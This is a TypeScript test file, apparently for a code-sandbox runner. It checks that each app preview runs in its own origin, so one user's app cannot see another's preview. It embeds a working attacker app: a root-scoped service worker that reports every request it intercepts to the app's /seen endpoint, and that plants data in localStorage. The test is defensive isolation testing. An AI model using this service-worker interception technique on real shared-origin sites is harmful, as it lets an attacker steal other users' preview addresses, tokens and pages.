/**
 * One user's app cannot see or change another's preview. The attack this guards against: an app
 * registers a service worker for the whole origin (its `sw.js` served with `Service-Worker-Allowed: /`)
 * and waits for the next preview someone opens in the same browser, to read its address (token
 * included) and its pages. Each preview has an origin of its own, so the worker, the app's storage and
 * its cookies stay there. Driven in a real Chromium against a real runner.
 */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PreviewInfo, ProcessLogsResponse, SandboxInfo } from '../src/contract.ts';
import { launchTestBrowser } from './browser.ts';
import { startRunner, type Client, type TestRunner } from './helpers.ts';

/** The attacker: a page that installs a worker reporting every request it sees to the app's /seen. */
const ATTACKER = String.raw`
const http = require('node:http');
const seen = [];
const page = '<!doctype html><title>attacker</title><script>' +
  "navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(() => { localStorage.setItem('stolen', 'attacker was here'); document.title = 'armed'; });" +
  '</script>';
const worker = "self.addEventListener('install', () => self.skipWaiting());" +
  "self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));" +
  "self.addEventListener('fetch', (e) => { fetch('/seen', { method: 'POST', body: e.request.url }).catch(() => {}); });";
http.createServer((req, res) => {
  let body = '';
  req.on('data', (d) => (body += d));
  req.on('end', () => {
    if (req.url === '/sw.js') {
      res.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
      return res.end(worker);
    }
    if (req.url === '/seen' && req.method === 'POST') { seen.push(body); return res.end(); }
    if (req.url === '/seen') { res.writeHead(200, { 'content-type': 'application/json' }); return res.end(JSON.stringify(seen)); }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(page);
  });
}).listen(3000, () => console.log('listening'));
`;

/** The victim: a private page. */
const VICTIM = String.raw`
require('node:http').createServer((req, res) => {
  res.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'session=victim' });
  res.end('<!doctype html><title>victim</title><h1>The victim\'s private app</h1><p id="storage"></p>' +
    "<script>document.getElementById('storage').textContent = 'storage: ' + (localStorage.getItem('stolen') ?? 'empty');</script>");
}).listen(3000, () => console.log('listening'));
`;

let runner: TestRunner;
let browser: Browser;

async function previewOf(client: Client, source: string): Promise<PreviewInfo> {
  const sandbox: SandboxInfo = await client.create();
  await client.request('PUT', `/v1/sandboxes/${sandbox.id}/files`, {
    files: [{ path: 'app.js', content: source }],
  });
  const proc = await client.request<{ id: string }>('POST', `/v1/sandboxes/${sandbox.id}/processes`, {
    argv: ['node', 'app.js'],
  });
  for (;;) {
    const logs = await client.request<ProcessLogsResponse>(
      'GET',
      `/v1/sandboxes/${sandbox.id}/processes/${proc.body.id}/logs?waitMs=1000`,
    );
    if (logs.body.data.includes('listening')) break;
    if (logs.body.process.status !== 'running') throw new Error(`the app exited: ${logs.body.data}`);
  }
  const preview = await client.request<PreviewInfo>('POST', `/v1/sandboxes/${sandbox.id}/previews`, {
    port: 3000,
  });
  return preview.body;
}

beforeAll(async () => {
  runner = await startRunner();
  browser = await launchTestBrowser();
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await runner?.close();
});

describe('preview isolation', () => {
  it("keeps an app's service worker, storage and cookies away from another user's preview", async () => {
    const attacker = await previewOf(runner.client(), ATTACKER);
    const victim = await previewOf(runner.client(), VICTIM);
    expect(new URL(attacker.url).origin).not.toBe(new URL(victim.url).origin);

    // One browser profile, as a person who opens one preview, then another.
    const context = await browser.newContext();
    const attackerPage = await context.newPage();
    await attackerPage.goto(attacker.url);
    await expect.poll(() => attackerPage.title(), { timeout: 20_000 }).toBe('armed');
    // (Expressions as text: this package's types have no DOM.)
    const registered = await attackerPage.evaluate<string[]>(
      'navigator.serviceWorker.getRegistrations().then((all) => all.map((r) => r.scope))',
    );
    expect(registered).toEqual([`${new URL(attacker.url).origin}/`]);

    const victimPage = await context.newPage();
    await victimPage.goto(victim.url);
    await victimPage.getByRole('heading', { name: "The victim's private app" }).waitFor();
    // The victim's page runs in its own origin: no worker controls it, the attacker's storage is not its.
    expect(await victimPage.evaluate('navigator.serviceWorker.controller')).toBeNull();
    expect(await victimPage.locator('#storage').innerText()).toBe('storage: empty');

    // The attacker's worker saw only the attacker's own requests: never the victim's address or token.
    await attackerPage.reload();
    const seen = await attackerPage.evaluate(async () => (await (await fetch('/seen')).json()) as string[]);
    expect(seen.length).toBeGreaterThan(0);
    for (const url of seen) expect(new URL(url).origin).toBe(new URL(attacker.url).origin);
    expect(seen.join('\n')).not.toContain(victim.token);

    // Nor can the attacker's page read the victim's preview: it is another origin, and the victim's
    // session cookie is not the attacker's to send.
    const read = await attackerPage.evaluate(
      async (target) => {
        try {
          const res = await fetch(target, { credentials: 'include' });
          return `read ${res.status}`;
        } catch {
          return 'refused';
        }
      },
      `${new URL(victim.url).origin}/`,
    );
    expect(read).toBe('refused');
    const cookies = await context.cookies(new URL(attacker.url).origin);
    expect(cookies.map((c) => c.name)).not.toContain('session');
    await context.close();
  }, 120_000);
});
